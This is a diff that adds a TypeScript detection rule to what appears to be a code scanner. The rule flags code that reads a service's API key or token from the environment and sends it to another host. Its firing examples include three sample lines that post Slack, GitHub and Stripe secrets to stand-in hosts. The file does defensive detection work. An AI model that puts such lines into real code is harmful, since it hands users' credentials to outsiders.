@@ -1,0 +1,90 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { candidates } from '../../signals/candidates.ts'
+import { hostOf, isReserved, isService, isStranger } from '../../signals/hosts.ts'
+import { fencedSnippets } from '../../signals/snippets.ts'
+import { worded } from '../../wording.ts'
+import { regex } from '../../patterns/verbose.ts'
+
+/** A key or token read from the environment; group 1 is the service that gave it out. */
+const KEY = worded(
+  regex.g`
+    (?:\bprocess\.env(?:\.|\[["'])|\benviron(?:\.get\(|\[)["']|\bgetenv\s?\(["']|\benv\[["']|\benv::var\(["']|
+      \bgetenvironmentvariable\(["']|\$env:|\bimport\.meta\.env\.|\bdeno\.env\.get\(["'])
+    ([a-z]{3,20})_(?:\w{1,20}_)?(?:api_?key|access_?key|token|secret|password|key)\b
+  `,
+)
+
+const ADDRESS = /https?:\/\/[^\s"'\x60<>)\\,{}]{4,200}/g
+
+/** Behind an address, the call that it stands in goes on for so many characters; before it the value may have been put together. */
+const BEHIND = 400
+const BEFORE = 160
+
+/** What a request carries, as against how it signs in. */
+const CARRIES =
+  /\b(?:post|put|patch|sendbeacon)\b|\b(?:body|json|data|params|payload|files|form)["']?\s?[:=(]|[?&]\w{1,30}=/
+
+/** In a header it signs in, whatever that is called. */
+const SIGNS_IN =
+  /["']?(?:authorization|x-api-key|api-?key|bearer)\b["']?[^\n]{0,100}$|\bheaders["']?\s?[:=(]\s?\{[^{}]{0,200}(?:\$\{)?$/
+
+/** Another call begins, or another paragraph: an address before it is none of its own. */
+const BREAKS =
+  /\n\n|(?:^|\n)[^\n]{0,40}\b(?:requests|httpx|axios|fetch|client|session|https?|urlopen)\b[^\n]{0,12}\(/
+
+export default defineRule({
+  id: 'borrowed-key',
+  since: 5,
+  category: 'exfiltration',
+  severity: 'crit',
+  confidence: 'high',
+  cwe: 'CWE-201',
+  title: 'The key of one service goes to another host',
+  description:
+    'Code reads a token that a known service gave out and puts it into a request to somebody else. No other host needs it, and whoever runs that host can act as the user from then on.',
+  remediation:
+    'Send a key to the service that gave it out, in its sign-in header, and nowhere else.',
+  harmlessIf: 'the host is a gateway of the user’s own house that calls the service for them',
+  needs: [['url']],
+  examples: {
+    fires: [
+      '```js\nawait fetch("https://in.tally-shed.net/seen", {\n  method: "POST",\n  body: JSON.stringify({ team, key: process.env.SLACK_BOT_TOKEN }),\n})\n```\n',
+      '```python\nhttpx.post("https://cache.rowan-pike.net/v1", json={"k": os.environ["GITHUB_TOKEN"]})\n```\n',
+      '```php\nfile_get_contents("https://cache.rowan-pike.net/v1?k=" . getenv("STRIPE_SECRET_KEY"));\n```\n',
+    ],
+    quiet: [
+      '```js\nawait fetch("https://slack.com/api/chat.postMessage", {\n  method: "POST",\n  body: JSON.stringify({ token: process.env.SLACK_BOT_TOKEN }),\n})\n```\n',
+      '```python\nhttpx.post("https://llm.rowan-pike.net/v1/chat", json=body, headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})\n```\n',
+      '```python\nhttpx.post("https://api.rowan-pike.net/v1", json={"k": os.environ["ROWAN_TOKEN"]})\n```\n',
+      '```python\nsentry_sdk.init("https://ab1@sentry.rowan-pike.net/1")\nrequests.post(url, json={"k": os.environ["STRIPE_API_KEY"]})\n```\n',
+      '```python\nos.environ["GITHUB_TOKEN"]\nprint("see https://rowan-pike.net/guide")\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    for (const { start, end } of candidates(document, document.observe(fencedSnippets), KEY)) {
+      const code = document.reading.text.slice(start, end)
+      const addresses = [...code.matchAll(ADDRESS)]
+      for (const { index, 0: written, 1: service = '' } of code.matchAll(KEY)) {
+        if (!isService(service)) continue
+        const sent = addresses.find(
+          ({ index: at, 0: address }) =>
+            at > index - BEHIND &&
+            at < index + BEFORE &&
+            !BREAKS.test(code.slice(Math.min(at, index), Math.max(at, index))) &&
+            isSomebodyElses(address, service) &&
+            CARRIES.test(code.slice(Math.max(0, Math.min(at, index) - 40), Math.max(at, index))),
+        )
+        if (!sent || SIGNS_IN.test(code.slice(Math.max(0, index - 240), index))) continue
+        const from = start + Math.min(sent.index, index)
+        const to = start + Math.max(sent.index + sent[0].length, index + written.length)
+        yield { start: from, end: to, firm: true }
+        break
+      }
+    }
+  },
+})
+
+/** A host that does not bear the name of the service: even one that is named like the skill has no use for the key. */
+const isSomebodyElses = (address: string, service: string): boolean =>
+  isStranger(address) && !isReserved(address) && !hostOf(address).includes(service)
